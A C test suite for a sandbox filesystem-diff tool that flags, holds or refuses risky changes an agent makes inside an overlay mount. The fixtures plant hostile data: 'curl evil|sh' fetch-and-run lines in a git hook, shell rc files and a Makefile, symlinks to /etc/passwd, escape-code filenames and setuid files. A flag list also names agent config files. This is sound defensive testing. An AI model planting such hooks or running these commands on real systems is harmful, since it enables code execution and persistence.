/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include "harness/tap.h"

#include <fcntl.h>
#include <ftw.h>
#include <jansson.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "audit/audit.h"
#include "workspace/fsdiff.h"
#include "shared/macro.h"

#define HOSTILE "bad\nname\x1b[31m\xff"

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *f)
{
	(void)st;
	(void)f;
	if (flag == FTW_DP)
		rmdir(p);
	else
		unlink(p);
	return 0;
}

/* Remove a test's temporary tree (never following symlinks) and free the name. */
static void rmrfp(char **d)
{
	if (*d)
		nftw(*d, rm_one, 16, FTW_DEPTH | FTW_PHYS | FTW_MOUNT);
	free(*d);
}

static char *mktmp(void)
{
	char *d = strdup("/tmp/moat-fsdiff-XXXXXX");
	if (!d || !mkdtemp(d))
		moat_tap_fail(__FILE__, __LINE__, "mkdtemp: %m");
	return d;
}

static void put(int dfd, const char *name, const char *data, mode_t mode)
{
	int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, data, strlen(data)) != (ssize_t)strlen(data))
		moat_tap_fail(__FILE__, __LINE__, "write %s: %m", name);
	if (fchmod(fd, mode) < 0)
		moat_tap_fail(__FILE__, __LINE__, "chmod %s: %m", name);
	close(fd);
}

static int sub(const char *base, const char *name)
{
	char p[512];
	snprintf(p, sizeof(p), "%s/%s", base, name);
	if (mkdir(p, 0755) < 0 && errno != EEXIST)
		moat_tap_fail(__FILE__, __LINE__, "mkdir %s: %m", p);
	int fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		moat_tap_fail(__FILE__, __LINE__, "open %s: %m", p);
	return fd;
}

static char *slurp(int dfd, const char *name)
{
	static char buf[4096];
	int fd = openat(dfd, name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return buf;
}

static const struct moat_fs_entry *find(const struct moat_manifest *m, const char *path)
{
	for (size_t i = 0; i < m->n; i++)
		if (streq(m->entries[i].path, path))
			return &m->entries[i];
	return NULL;
}

static const struct moat_fs_entry *must(const struct moat_manifest *m, const char *path)
{
	const struct moat_fs_entry *e = find(m, path);
	if (!e) {
		char *t = NULL;
		moat_manifest_to_text(m, &t);
		moat_tap_fail(__FILE__, __LINE__, "no entry %s in manifest:\n%s", path, t);
	}
	return e;
}

static bool exists_at(int dfd, const char *p)
{
	struct stat st;
	return fstatat(dfd, p, &st, AT_SYMLINK_NOFOLLOW) == 0;
}

TEST(fsdiff_flag_rules)
{
	ASSERT_TRUE(moat_flag_match(NULL, ".git/hooks/pre-commit", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "sub/repo/.git/hooks/post-checkout", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".git/hooks", S_IFDIR) != NULL);
	ASSERT_CONTAINS(moat_flag_match(NULL, ".git/config", S_IFREG), "git config");
	ASSERT_TRUE(moat_flag_match(NULL, ".git/objects/ab/cdef", S_IFREG) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".git/refs/heads/main", S_IFREG) == NULL);
	ASSERT_CONTAINS(moat_flag_match(NULL, "vendor/x/.git", S_IFREG), "gitdir");
	ASSERT_TRUE(moat_flag_match(NULL, ".git", S_IFDIR) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".github/workflows/ci.yml", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".github/ISSUE_TEMPLATE.md", S_IFREG) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".gitlab-ci.yml", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".circleci/config.yml", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "Jenkinsfile", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".bashrc", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "home/.zshrc", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".envrc", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".vscode/tasks.json", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".idea/workspace.xml", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".mcp.json", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".claude/settings.json", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "AGENTS.md", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "docs/agents.md", S_IFREG) !=
		    NULL); /* case-insensitive */
	ASSERT_TRUE(moat_flag_match(NULL, "CLAUDE.md", S_IFREG) != NULL);
	ASSERT_TRUE(moat_flag_match(NULL, ".cursorrules", S_IFREG) != NULL);
	ASSERT_CONTAINS(moat_flag_match(NULL, "Makefile", S_IFREG), "build hook");
	ASSERT_CONTAINS(moat_flag_match(NULL, "src/rules.mk", S_IFREG), "build hook");
	ASSERT_CONTAINS(moat_flag_match(NULL, "CMakeLists.txt", S_IFREG), "build hook");
	ASSERT_CONTAINS(moat_flag_match(NULL, "setup.py", S_IFREG), "build hook");
	ASSERT_CONTAINS(moat_flag_match(NULL, "pyproject.toml", S_IFREG), "build hook");
	ASSERT_CONTAINS(moat_flag_match(NULL, "crate/build.rs", S_IFREG), "build hook");
	ASSERT_TRUE(moat_flag_match(NULL, "src/main.c", S_IFREG) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "README.md", S_IFREG) == NULL);

	struct moat_flag_rules *r = NULL;
	const char *extra[] = {"/secrets/", "*.service", "deploy.sh"};
	ASSERT_EQ(moat_flag_rules_new(extra, 3, &r), 0);
	ASSERT_CONTAINS(moat_flag_match(r, "secrets/key", S_IFREG), "flag_patterns");
	ASSERT_TRUE(moat_flag_match(r, "a/secrets/key", S_IFREG) == NULL); /* anchored */
	ASSERT_CONTAINS(moat_flag_match(r, "etc/x.service", S_IFREG), "flag_patterns");
	ASSERT_CONTAINS(moat_flag_match(r, "ops/deploy.sh", S_IFREG), "flag_patterns");
	ASSERT_TRUE(moat_flag_match(r, ".git/hooks/x", S_IFREG) != NULL); /* built-ins kept */
	moat_flag_rules_free(r);
	const char *bad[] = {"/"};
	ASSERT_EQ(moat_flag_rules_new(bad, 1, &r), -EINVAL);

	ASSERT_TRUE(moat_fsdiff_link_escapes("a", "/etc/passwd"));
	ASSERT_TRUE(moat_fsdiff_link_escapes("a", "../x"));
	ASSERT_TRUE(moat_fsdiff_link_escapes("d/a", "../../x"));
	ASSERT_TRUE(moat_fsdiff_link_escapes("d/a", "x/../../../y"));
	ASSERT_TRUE(!moat_fsdiff_link_escapes("d/a", "../x"));
	ASSERT_TRUE(!moat_fsdiff_link_escapes("d/a", "./x/./../y"));
	ASSERT_TRUE(moat_fsdiff_link_escapes("a", ""));
	ASSERT_TRUE(moat_fsdiff_is_whiteout(S_IFCHR, makedev(0, 0)));
	ASSERT_TRUE(!moat_fsdiff_is_whiteout(S_IFCHR, makedev(1, 3)));
	ASSERT_TRUE(!moat_fsdiff_is_whiteout(S_IFREG, makedev(0, 0)));
}

/* A hand-built upper/lower pair: whiteout (mknod 0:0 needs no privilege since
 * Linux 5.8), opaque xattr (user.overlay.* as an unprivileged overlay writes),
 * hostile names and planted symlinks. */
TEST(fsdiff_classify_fake_upper)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	put(lower, "keep.txt", "same", 0644);
	put(lower, "gone.txt", "bye", 0644);
	put(lower, "mod.txt", "old", 0644);
	put(lower, "touched.txt", "same", 0644);
	put(lower, "chmod.sh", "#!/bin/sh\n", 0644);
	ASSERT_EQ(mkdirat(lower, "opq", 0755), 0);
	put(lower, "opq/old1", "1", 0644);
	put(lower, "opq/old2", "2", 0644);
	put(lower, "opq/kept-name", "x", 0644);

	ASSERT_EQ(mknodat(upper, "gone.txt", S_IFCHR | 0600, makedev(0, 0)), 0);
	ASSERT_EQ(mknodat(upper, "ghost", S_IFCHR | 0600, makedev(0, 0)), 0); /* nothing below */
	put(upper, "mod.txt", "new!", 0644);
	put(upper, "touched.txt", "same", 0644); /* copied up, unchanged */
	put(upper, "chmod.sh", "#!/bin/sh\n", 0755);
	put(upper, HOSTILE, "h", 0644);
	ASSERT_EQ(symlinkat("/etc/passwd", upper, "passwd-link"), 0);
	ASSERT_EQ(symlinkat("../../outside", upper, "up"), 0);
	ASSERT_EQ(symlinkat("keep.txt", upper, "inside"), 0);
	ASSERT_EQ(mkfifoat(upper, "fifo", 0644), 0);
	put(upper, "suid", "x", 04755);
	ASSERT_EQ(mkdirat(upper, "opq", 0755), 0);
	int o = openat(upper, "opq", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_TRUE(o >= 0);
	ASSERT_EQ(fsetxattr(o, "user.overlay.opaque", "y", 1, 0), 0);
	close(o);
	put(upper, "opq/kept-name", "replaced", 0644);
	put(upper, "opq/new", "n", 0644);

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	const struct moat_fs_entry *e;
	e = must(m, "gone.txt");
	ASSERT_EQ(e->change, MOAT_FS_DELETED);
	ASSERT_EQ(e->old_type, S_IFREG);
	ASSERT_TRUE(e->has_old_sha);
	ASSERT_TRUE(find(m, "ghost") == NULL);
	ASSERT_TRUE(find(m, "keep.txt") == NULL);
	ASSERT_TRUE(find(m, "touched.txt") == NULL);
	e = must(m, "mod.txt");
	ASSERT_EQ(e->change, MOAT_FS_MODIFIED);
	ASSERT_EQ(e->size, 4);
	ASSERT_TRUE(e->has_sha && e->has_old_sha);
	ASSERT_TRUE(e->flagged == NULL);
	e = must(m, "chmod.sh");
	ASSERT_EQ(e->change, MOAT_FS_MODE);
	ASSERT_EQ(e->mode, 0755);
	ASSERT_EQ(e->old_mode, 0644);
	ASSERT_STREQ(e->flagged, "newly executable");
	e = must(m, HOSTILE);
	ASSERT_EQ(e->change, MOAT_FS_CREATED);
	e = must(m, "passwd-link");
	ASSERT_STREQ(e->target, "/etc/passwd");
	ASSERT_CONTAINS(e->flagged, "outside");
	ASSERT_CONTAINS(must(m, "up")->flagged, "outside");
	ASSERT_TRUE(must(m, "inside")->flagged == NULL);
	ASSERT_STREQ(must(m, "fifo")->refused, "FIFO");
	ASSERT_STREQ(must(m, "suid")->refused, "set-id bits");
	e = must(m, "opq");
	ASSERT_TRUE(e->opaque);
	ASSERT_EQ(must(m, "opq/old1")->change, MOAT_FS_DELETED);
	ASSERT_EQ(must(m, "opq/old2")->change, MOAT_FS_DELETED);
	ASSERT_EQ(must(m, "opq/kept-name")->change, MOAT_FS_MODIFIED);
	ASSERT_EQ(must(m, "opq/new")->change, MOAT_FS_CREATED);

	/* text: one line per entry, hostile bytes escaped */
	_cleanup_free_ char *text = NULL, *json = NULL;
	ASSERT_EQ(moat_manifest_to_text(m, &text), 0);
	ASSERT_CONTAINS(text, "\"bad\\nname\\u001b[31m\\ufffd\"");
	ASSERT_TRUE(!strchr(text, 0x1b));
	ASSERT_CONTAINS(text, "passwd-link -> /etc/passwd");
	ASSERT_CONTAINS(text, "REFUSED: FIFO");
	size_t lines = 0;
	for (const char *p = text; *p; p++)
		lines += *p == '\n';
	ASSERT_EQ(lines, m->n + 1);
	ASSERT_EQ(moat_manifest_to_json(m, &json), 0);
	json_error_t err;
	json_t *j = json_loads(json, 0, &err);
	ASSERT_TRUE(j != NULL);
	ASSERT_EQ(json_array_size(json_object_get(j, "entries")), m->n);
	json_decref(j);
	moat_manifest_free(m);
}

TEST(fsdiff_trusted_opaque_as_root)
{
	if (geteuid() != 0)
		SKIP("trusted.overlay.* xattrs need root (the unprivileged form is tested)");
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	ASSERT_EQ(mkdirat(lower, "dir", 0755), 0);
	put(lower, "dir/old", "1", 0644);
	ASSERT_EQ(mkdirat(upper, "dir", 0755), 0);
	int o = openat(upper, "dir", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_EQ(fsetxattr(o, "trusted.overlay.opaque", "y", 1, 0), 0);
	close(o);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_EQ(must(m, "dir/old")->change, MOAT_FS_DELETED);
	moat_manifest_free(m);
	/* an overlay redirect is refused, not misread */
	o = openat(upper, "dir", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_EQ(fsetxattr(o, "trusted.overlay.redirect", "/elsewhere", 10, 0), 0);
	close(o);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(must(m, "dir")->refused, "redirect");
	moat_manifest_free(m);
}

/* The real thing: an overlay mount, changes made through it, the diff of its
 * upper layer, then apply (safe), apply one held path, save/load and apply
 * the rest (all). userxattr: as an unprivileged user would mount it. */
static void overlay_scenario(bool userns)
{
	_cleanup_(rmrfp) char *d = mktmp();
	char lo[256], up[256], wk[256], mg[256], opts[1024], p[512];
	struct moat_manifest *m = NULL;
	struct moat_fsapply_report rep;

	snprintf(lo, sizeof(lo), "%s/lower", d);
	snprintf(up, sizeof(up), "%s/upper", d);
	snprintf(wk, sizeof(wk), "%s/work", d);
	snprintf(mg, sizeof(mg), "%s/merged", d);
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper"), w = sub(d, "work"),
			    merged = sub(d, "merged"), outside = sub(d, "outside");
	put(lower, "keep.txt", "keep", 0644);
	put(lower, "mod.txt", "old", 0644);
	put(lower, "del.txt", "del", 0644);
	put(lower, "run.sh", "#!/bin/sh\n", 0644);
	put(lower, "package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}", 0644);
	put(lower, "Makefile", "all:\n", 0644);
	ASSERT_EQ(mkdirat(lower, "dir1", 0755), 0);
	put(lower, "dir1/a", "a", 0644);
	ASSERT_EQ(mkdirat(lower, "dir2", 0755), 0);
	put(lower, "dir2/x", "x", 0644);
	ASSERT_EQ(mkdirat(lower, ".git", 0755), 0);
	ASSERT_EQ(mkdirat(lower, ".git/hooks", 0755), 0);
	put(lower, ".git/config", "[core]\n", 0644);
	put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
	put(outside, "canary", "H1-canary", 0644);

	if (userns) {
		moat_tap_enter_userns(CLONE_NEWNS);
	} else {
		if (unshare(CLONE_NEWNS) < 0)
			moat_tap_fail(__FILE__, __LINE__, "unshare(mnt): %m");
	}
	ASSERT_EQ(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
	snprintf(opts, sizeof(opts), "lowerdir=%s,upperdir=%s,workdir=%s%s", lo, up, wk,
		 userns ? ",userxattr" : ",redirect_dir=off,metacopy=off");
	if (mount("overlay", mg, "overlay", 0, opts) < 0)
		moat_tap_fail(__FILE__, __LINE__, "mount overlay (%s): %m", opts);
	int mfd = open(mg, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_TRUE(mfd >= 0);
	/* what an agent does */
	put(mfd, "mod.txt", "new content", 0644);
	ASSERT_EQ(unlinkat(mfd, "del.txt", 0), 0);
	ASSERT_EQ(fchmodat(mfd, "run.sh", 0755, 0), 0);
	ASSERT_EQ(unlinkat(mfd, "dir1/a", 0), 0);
	ASSERT_EQ(unlinkat(mfd, "dir1", AT_REMOVEDIR), 0);
	ASSERT_EQ(unlinkat(mfd, "dir2/x", 0), 0);
	ASSERT_EQ(unlinkat(mfd, "dir2", AT_REMOVEDIR), 0);
	ASSERT_EQ(mkdirat(mfd, "dir2", 0755), 0); /* opaque now */
	put(mfd, "dir2/y", "y", 0644);
	put(mfd, "new.txt", "new", 0644);
	ASSERT_EQ(mkdirat(mfd, "newdir", 0750), 0);
	put(mfd, "newdir/f", "f", 0600);
	put(mfd, HOSTILE, "hostile", 0644);
	put(mfd, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n", 0755);
	put(mfd, ".git/config", "[core]\nhooksPath = /tmp/x\n", 0644);
	put(mfd, ".git/HEAD", "ref: refs/heads/work\n", 0644);
	ASSERT_EQ(mkdirat(mfd, ".github", 0755), 0);
	ASSERT_EQ(mkdirat(mfd, ".github/workflows", 0755), 0);
	put(mfd, ".github/workflows/ci.yml", "on: push\n", 0644);
	put(mfd, ".bashrc", "curl evil|sh\n", 0644);
	put(mfd, ".envrc", "curl evil|sh\n", 0644);
	put(mfd, "package.json",
	    "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"sh x\"}}", 0644);
	put(mfd, "Makefile", "all:\n\tcurl evil|sh\n", 0644);
	snprintf(p, sizeof(p), "%s/outside/canary", d);
	ASSERT_EQ(symlinkat(p, mfd, "report.txt"), 0);
	ASSERT_EQ(symlinkat("../../..", mfd, "up"), 0);
	ASSERT_EQ(symlinkat("keep.txt", mfd, "alias"), 0);
	ASSERT_EQ(mkfifoat(mfd, "out.log", 0644), 0);
	put(mfd, "suid", "x", 04755);
	close(mfd);
	ASSERT_EQ(umount2(mg, 0), 0);

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_EQ(must(m, "mod.txt")->change, MOAT_FS_MODIFIED);
	ASSERT_EQ(must(m, "del.txt")->change, MOAT_FS_DELETED);
	ASSERT_EQ(must(m, "run.sh")->change, MOAT_FS_MODE);
	ASSERT_EQ(must(m, "dir1")->change, MOAT_FS_DELETED);
	ASSERT_EQ(must(m, "dir1")->old_type, S_IFDIR);
	ASSERT_TRUE(must(m, "dir2")->opaque);
	ASSERT_EQ(must(m, "dir2/x")->change, MOAT_FS_DELETED);
	ASSERT_EQ(must(m, "dir2/y")->change, MOAT_FS_CREATED);
	ASSERT_EQ(must(m, "newdir/f")->change, MOAT_FS_CREATED);
	ASSERT_TRUE(must(m, ".git/hooks/pre-commit")->flagged != NULL);
	ASSERT_TRUE(must(m, ".git/config")->flagged != NULL);
	ASSERT_TRUE(must(m, ".git/HEAD")->flagged == NULL);
	ASSERT_TRUE(must(m, ".github/workflows/ci.yml")->flagged != NULL);
	ASSERT_TRUE(must(m, ".bashrc")->flagged != NULL);
	ASSERT_TRUE(must(m, ".envrc")->flagged != NULL);
	ASSERT_CONTAINS(must(m, "package.json")->flagged, "scripts");
	ASSERT_CONTAINS(must(m, "Makefile")->flagged, "build hook");
	ASSERT_CONTAINS(must(m, "report.txt")->flagged, "outside");
	ASSERT_CONTAINS(must(m, "up")->flagged, "outside");
	ASSERT_TRUE(must(m, "alias")->flagged == NULL);
	ASSERT_STREQ(must(m, "out.log")->refused, "FIFO");
	ASSERT_STREQ(must(m, "suid")->refused, "set-id bits");
	ASSERT_TRUE(find(m, "keep.txt") == NULL);

	/* the audit view of the manifest */
	char logp[512];
	struct moat_audit *a = NULL;
	snprintf(logp, sizeof(logp), "%s/events.jsonl", d);
	ASSERT_EQ(moat_audit_open(logp, "t", 0, &a), 0);
	ASSERT_EQ(moat_manifest_audit(m, a), 0);
	ASSERT_EQ(moat_audit_count(a, MOAT_EV_FILE), m->n);
	ASSERT_TRUE(moat_audit_count(a, MOAT_EV_ALERT) >= 10);
	moat_audit_free(a);

	/* apply safe into the real directory */
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_SAFE, NULL, &rep), 0);
	ASSERT_EQ(rep.failed, 0);
	ASSERT_EQ(rep.conflicts, 0);
	ASSERT_EQ(rep.refused, 2);
	ASSERT_STREQ(slurp(lower, "mod.txt"), "new content");
	ASSERT_TRUE(!exists_at(lower, "del.txt"));
	struct stat st;
	ASSERT_EQ(fstatat(lower, "run.sh", &st, AT_SYMLINK_NOFOLLOW), 0);
	ASSERT_EQ(st.st_mode & 07777, 0644); /* newly executable: held */
	ASSERT_EQ(must(m, "run.sh")->state, MOAT_FS_HELD);
	ASSERT_TRUE(!exists_at(lower, "dir1"));
	ASSERT_TRUE(!exists_at(lower, "dir2/x"));
	ASSERT_STREQ(slurp(lower, "dir2/y"), "y");
	ASSERT_STREQ(slurp(lower, "new.txt"), "new");
	ASSERT_STREQ(slurp(lower, "newdir/f"), "f");
	ASSERT_EQ(fstatat(lower, "newdir", &st, AT_SYMLINK_NOFOLLOW), 0);
	ASSERT_EQ(st.st_mode & 07777, 0750);
	ASSERT_STREQ(slurp(lower, HOSTILE), "hostile");
	ASSERT_STREQ(slurp(lower, ".git/HEAD"), "ref: refs/heads/work\n");
	ASSERT_STREQ(slurp(lower, ".git/config"), "[core]\n");
	ASSERT_TRUE(!exists_at(lower, ".git/hooks/pre-commit"));
	ASSERT_TRUE(!exists_at(lower, ".github/workflows"));
	ASSERT_TRUE(!exists_at(lower, ".bashrc"));
	ASSERT_TRUE(!exists_at(lower, ".envrc"));
	ASSERT_CONTAINS(slurp(lower, "package.json"), "\"test\":\"jest\"}}");
	ASSERT_STREQ(slurp(lower, "Makefile"), "all:\n");
	ASSERT_TRUE(!exists_at(lower, "report.txt"));
	ASSERT_TRUE(!exists_at(lower, "up"));
	ASSERT_EQ(fstatat(lower, "alias", &st, AT_SYMLINK_NOFOLLOW), 0);
	ASSERT_TRUE(S_ISLNK(st.st_mode));
	ASSERT_TRUE(!exists_at(lower, "out.log"));
	ASSERT_TRUE(!exists_at(lower, "suid"));
	ASSERT_EQ(must(m, ".github/workflows/ci.yml")->state, MOAT_FS_HELD);

	/* one held path, explicitly */
	const char *only[] = {".git/hooks/pre-commit", NULL};
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_ALL, only, &rep), 0);
	ASSERT_EQ(rep.applied, 1);
	ASSERT_CONTAINS(slurp(lower, ".git/hooks/pre-commit"), "curl evil");
	ASSERT_TRUE(!exists_at(lower, ".bashrc"));

	/* save the held files, forget the upper, load, apply the rest */
	_cleanup_close_ int run = sub(d, "run");
	ASSERT_EQ(moat_fsdiff_save(m, upper, run, 1 << 20), 0);
	moat_manifest_free(m);
	m = NULL;
	ASSERT_EQ(moat_fsdiff_load(run, &m), 0);
	ASSERT_TRUE(m->from_store);
	ASSERT_EQ(must(m, HOSTILE)->state, MOAT_FS_APPLIED);
	ASSERT_EQ(must(m, ".bashrc")->state, MOAT_FS_HELD);
	ASSERT_STREQ(must(m, "out.log")->refused, "FIFO");
	_cleanup_close_ int store = moat_fsdiff_open_store(run);
	ASSERT_TRUE(store >= 0);
	ASSERT_EQ(moat_fsdiff_apply(m, store, lower, MOAT_FSAPPLY_ALL, NULL, &rep), 0);
	ASSERT_EQ(rep.failed + rep.conflicts, 0);
	ASSERT_STREQ(slurp(lower, ".bashrc"), "curl evil|sh\n");
	ASSERT_STREQ(slurp(lower, ".github/workflows/ci.yml"), "on: push\n");
	ASSERT_CONTAINS(slurp(lower, ".git/config"), "hooksPath");
	ASSERT_EQ(fstatat(lower, "run.sh", &st, AT_SYMLINK_NOFOLLOW), 0);
	ASSERT_EQ(st.st_mode & 07777, 0755);
	/* the planted links exist as links; nothing was written through them */
	ASSERT_EQ(fstatat(lower, "report.txt", &st, AT_SYMLINK_NOFOLLOW), 0);
	ASSERT_TRUE(S_ISLNK(st.st_mode));
	ASSERT_STREQ(slurp(outside, "canary"), "H1-canary");
	ASSERT_TRUE(!exists_at(lower, "out.log"));
	ASSERT_TRUE(!exists_at(lower, "suid"));
	ASSERT_EQ(moat_fsdiff_save(m, -1, run, 0), 0);
	moat_manifest_free(m);
}

TEST(fsdiff_overlay_userns)
{
	overlay_scenario(true);
}

TEST(fsdiff_overlay_native_root)
{
	if (geteuid() != 0)
		SKIP("a native overlay mount needs root (the user-namespace variant runs)");
	overlay_scenario(false);
}

/* apply never follows a symlink out of the target, on any path component */
TEST(fsdiff_apply_symlink_race)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper"),
			    outside = sub(d, "outside");
	struct moat_manifest *m = NULL;
	struct moat_fsapply_report rep;
	char p[512];

	ASSERT_EQ(mkdirat(upper, "sub", 0755), 0);
	put(upper, "sub/file", "payload", 0644);
	put(upper, "top", "payload", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	/* between compute and apply the target grows symlinks to outside */
	snprintf(p, sizeof(p), "%s/outside", d);
	ASSERT_EQ(symlinkat(p, lower, "sub"), 0);
	snprintf(p, sizeof(p), "%s/outside/victim", d);
	put(outside, "victim", "keep", 0644);
	ASSERT_EQ(symlinkat(p, lower, "top"), 0);
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_ALL, NULL, &rep), -EIO);
	ASSERT_EQ(rep.applied, 0);
	ASSERT_TRUE(!exists_at(outside, "file"));
	ASSERT_STREQ(slurp(outside, "victim"), "keep");
	ASSERT_EQ(must(m, "top")->state, MOAT_FS_CONFLICT);
	moat_manifest_free(m);
}

/* A mount inside the host directory: the overlay never showed its contents,
 * so a deletion of the directory or a write below it must not reach into it. */
TEST(fsdiff_apply_stops_at_mounts)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;
	struct moat_fsapply_report rep;
	char mp[512];

	ASSERT_EQ(mkdirat(lower, "mnt", 0755), 0);
	ASSERT_EQ(mkdirat(lower, "mnt2", 0755), 0);
	ASSERT_EQ(mknodat(upper, "mnt", S_IFCHR | 0600, makedev(0, 0)), 0); /* rm -r mnt */
	ASSERT_EQ(mkdirat(upper, "mnt2", 0755), 0);
	put(upper, "mnt2/planted", "x", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_EQ(must(m, "mnt")->change, MOAT_FS_DELETED);

	moat_tap_enter_userns(CLONE_NEWNS);
	ASSERT_EQ(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
	snprintf(mp, sizeof(mp), "%s/lower/mnt", d);
	ASSERT_EQ(mount("tmpfs", mp, "tmpfs", 0, "size=1m"), 0);
	snprintf(mp, sizeof(mp), "%s/lower/mnt2", d);
	ASSERT_EQ(mount("tmpfs", mp, "tmpfs", 0, "size=1m"), 0);
	/* fds opened before the mounts live in the old mount tree: reopen */
	snprintf(mp, sizeof(mp), "%s/lower", d);
	_cleanup_close_ int target = open(mp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_TRUE(target >= 0);
	_cleanup_close_ int inner = openat(target, "mnt", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_TRUE(inner >= 0);
	put(inner, "host-data", "keep", 0644);

	ASSERT_EQ(moat_fsdiff_apply(m, upper, target, MOAT_FSAPPLY_ALL, NULL, &rep), -EIO);
	ASSERT_STREQ(slurp(inner, "host-data"), "keep");
	ASSERT_EQ(must(m, "mnt")->state, MOAT_FS_FAILED);
	ASSERT_EQ(must(m, "mnt2/planted")->state, MOAT_FS_FAILED);
	_cleanup_close_ int inner2 = openat(target, "mnt2", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	ASSERT_TRUE(!exists_at(inner2, "planted"));
	moat_manifest_free(m);
}

TEST(fsdiff_conflict_and_limits)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;
	struct moat_fsapply_report rep;

	put(lower, "f", "v1", 0644);
	put(upper, "f", "v2 from sandbox", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	put(lower, "f", "user edit", 0644);
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_ALL, NULL, &rep), -EIO);
	ASSERT_EQ(rep.conflicts, 1);
	ASSERT_STREQ(slurp(lower, "f"), "user edit");
	moat_manifest_free(m);

	/* entry cap fails the compute; depth cap refuses the deep directory */
	for (int i = 0; i < 20; i++) {
		char n[16];
		snprintf(n, sizeof(n), "n%d", i);
		put(upper, n, "x", 0644);
	}
	struct moat_fsdiff_limits lim = {.max_entries = 10};
	ASSERT_EQ(moat_fsdiff_compute_ex(upper, lower, NULL, &lim, &m), -E2BIG);
	int cur = dup(upper);
	for (int i = 0; i < 6; i++) {
		ASSERT_EQ(mkdirat(cur, "d", 0755), 0);
		int n = openat(cur, "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		close(cur);
		cur = n;
	}
	close(cur);
	/* a sparse 1 TiB file is refused from its size, never read */
	int sp = openat(upper, "sparse", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	ASSERT_TRUE(sp >= 0);
	ASSERT_EQ(ftruncate(sp, 1ll << 40), 0);
	close(sp);
	lim = (struct moat_fsdiff_limits){.max_depth = 3, .max_file_bytes = 1 << 20};
	ASSERT_EQ(moat_fsdiff_compute_ex(upper, lower, NULL, &lim, &m), 0);
	ASSERT_TRUE(must(m, "d/d/d")->refused == NULL);
	ASSERT_CONTAINS(must(m, "d/d/d/d")->refused, "too deep");
	ASSERT_TRUE(find(m, "d/d/d/d/d") == NULL);
	ASSERT_CONTAINS(must(m, "sparse")->refused, "size limit");
	ASSERT_TRUE(!must(m, "sparse")->has_sha);
	moat_manifest_free(m);
}

TEST(fsdiff_load_rejects_bad_manifest)
{
